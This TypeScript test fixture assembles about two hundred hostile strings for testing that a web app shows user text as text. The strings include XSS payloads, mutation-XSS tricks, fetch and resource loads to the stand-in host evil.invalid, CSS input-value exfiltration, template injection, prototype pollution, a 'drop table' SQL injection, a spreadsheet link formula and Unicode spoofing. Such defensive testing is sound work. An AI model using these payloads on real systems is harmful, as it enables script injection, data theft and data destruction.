/** Neither is reachable: the first is no host, the second a port of this machine without a listener. */
const AWAY = 'https://evil.invalid/x';
const NEAR = 'http://127.0.0.1:9/x';
const ALERT = 'alert(1)';
const IMG = `<img src=x onerror=${ALERT}>`;

const each = <One, Other>(
  ones: readonly One[],
  others: readonly Other[],
  say: (one: One, other: Other) => string,
): readonly string[] => ones.flatMap((one) => others.map((other) => say(one, other)));

/** What an injected script would do: show itself, call home, navigate away, or write into the page. */
const DEEDS = [ALERT, `fetch('${AWAY}')`, `location='${NEAR}'`, `document.body.innerHTML='robado'`] as const;

const scripts = [
  ...each(['<script>', '<SCRIPT >', '<script type=module>', '<scr<script>ipt>'], DEEDS, (open, deed) =>
    [open, deed, '</script>'].join(''),
  ),
  `<svg><script>${ALERT}</script></svg>`,
  `<svg><script href=data:,${ALERT} /></svg>`,
  `<script src=data:text/javascript,${ALERT}></script>`,
  `<script/x>${ALERT}</script/x>`,
];

const HANDLERS = [
  '<img src=x onerror',
  '<svg onload',
  '<svg><animate onbegin',
  '<body onload',
  '<input autofocus onfocus',
  '<details open ontoggle',
  '<video><source onerror',
  '<iframe srcdoc=x onload',
  '<a tabindex=1 autofocus onfocus',
  '<marquee onstart',
  '<style onload',
  '<div style=animation-name:x onanimationstart',
] as const;
const handlers = each(HANDLERS, DEEDS, (head, deed) => `${head}="${deed}">`);

const ADDRESSES = [
  `javascript:${ALERT}`,
  `JaVaScRiPt:${ALERT}`,
  `java&#09;script:${ALERT}`,
  `&#106;avascript:${ALERT}`,
  `data:text/html,<script>${ALERT}</script>`,
  `vbscript:msgbox(1)`,
] as const;
const HOLDERS = ['<a href', '<iframe src', '<object data', '<form><button formaction'] as const;
const addresses = each(HOLDERS, ADDRESSES, (head, address) => `${head}="${address}">Ver aviso</a>`);

const LOADS = [
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="${url} 2x">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<link rel=prefetch href="${url}">`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<video src="${url}" autoplay></video>`,
  (url: string) => `<input type=image src="${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<svg><image href="${url}"/></svg>`,
  (url: string) => `<style>@import url(${url});</style>`,
  (url: string) => `<p style="background:url(${url})">Nota</p>`,
] as const;
const loads = each(LOADS, [AWAY, NEAR], (load, url) => load(url));

const BREAKOUTS = [
  '">',
  `'>`,
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '"}]}',
  '`;}',
] as const;
const breakouts = each(BREAKOUTS, [IMG, `<svg/onload=${ALERT}>`], (end, then) => `${end}${then}`);

const templates = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%print(7*7)%}',
  '*{7*7}',
  '@{7*7}',
  `{{constructor.constructor('${ALERT}')()}}`,
  '${{<%[%\'"}}%\\.',
  '{{#with "s"}}{{lookup this "constructor"}}{{/with}}',
];

const mutations = [
  `<noscript><p title="</noscript>${IMG}">`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ALERT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<listing>&lt;img src=x onerror=${ALERT}&gt;</listing>`,
  `<select><template><style><!--</style>${IMG}--></template></select>`,
  `<xmp></xmp>${IMG}`,
  `<!--><svg onload=${ALERT}>-->`,
  `<![CDATA[><script>${ALERT}</script>]]>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${ALERT}</x:script>`,
];

const letters = [
  '\u202Egpj.exe\u202C factura',
  '\u2066<b>\u2069 pagado \u2067</b>\u2069',
  'pag\u200Bado\u200D\uFEFF si\u00AD',
  '＜script＞alert（1）＜／script＞',
  `<\u0131mg src=x onerror=${ALERT}>`,
  `<s\u0441ript>${ALERT}</s\u0441ript>`,
  'A\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030A\u030B\u030Cura',
  `uno\u2028${ALERT}\u2029dos`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F3F4}\u{E0067}\u{E007F}',
  '\u061C\u200F١٢٣٤ $ ٥٦',
];

const styles = [
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sesión vencida</div>',
  `<p style="width:expression(${ALERT})">Ancho</p>`,
  `<p style="behavior:url(#x);-moz-binding:url(${AWAY})">Atado</p>`,
  '<style>*{display:none!important}</style>',
  `<style>input[value^="a"]{background:url(${NEAR})}</style>`,
  '<p class="MuiDialog-root MuiModal-root">Capa</p>',
];

const links = [
  `[Ver póliza](javascript:${ALERT})`,
  `![foto](${AWAY}.png)`,
  `[Entre aquí](${AWAY} "onmouseover=${ALERT}")`,
  `<${AWAY}>`,
  `${AWAY}?a=<script>${ALERT}</script>`,
  `javascript:${ALERT}`,
  `[x]: ${NEAR} "título"`,
  `//evil.invalid/x`,
];

const encoded = [
  `&lt;script&gt;${ALERT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ALERT}&#62;`,
  `%3Cscript%3E${ALERT}%3C%2Fscript%3E`,
  `\\u003cimg src=x onerror=${ALERT}\\u003e`,
  `\\x3cscript\\x3e${ALERT}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${ALERT}+ADw-/script+AD4-`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

const others = [
  '{"__proto__":{"isAdmin":true}}',
  '","rol":"Admin","x":"',
  '__proto__[admin]=1&constructor.prototype.x=1',
  `=HYPERLINK("${AWAY}","Ver")`,
  "'; drop table logbook_entry; --",
  '@Beto Luna <b onclick=alert(1)>@todos</b>',
  `"-${ALERT}-"`,
];

/**
 * Two hundred texts that do harm if interpreted as anything but text. Each ends in a unique mark, so that it is found
 * again on a screen and is a substring of no other; the mark follows two slashes, which a script takes for a comment.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...loads,
  ...breakouts,
  ...templates,
  ...mutations,
  ...letters,
  ...styles,
  ...links,
  ...encoded,
  ...others,
].map((text, place) => `${text}//h${String(place).padStart(3, '0')}`);
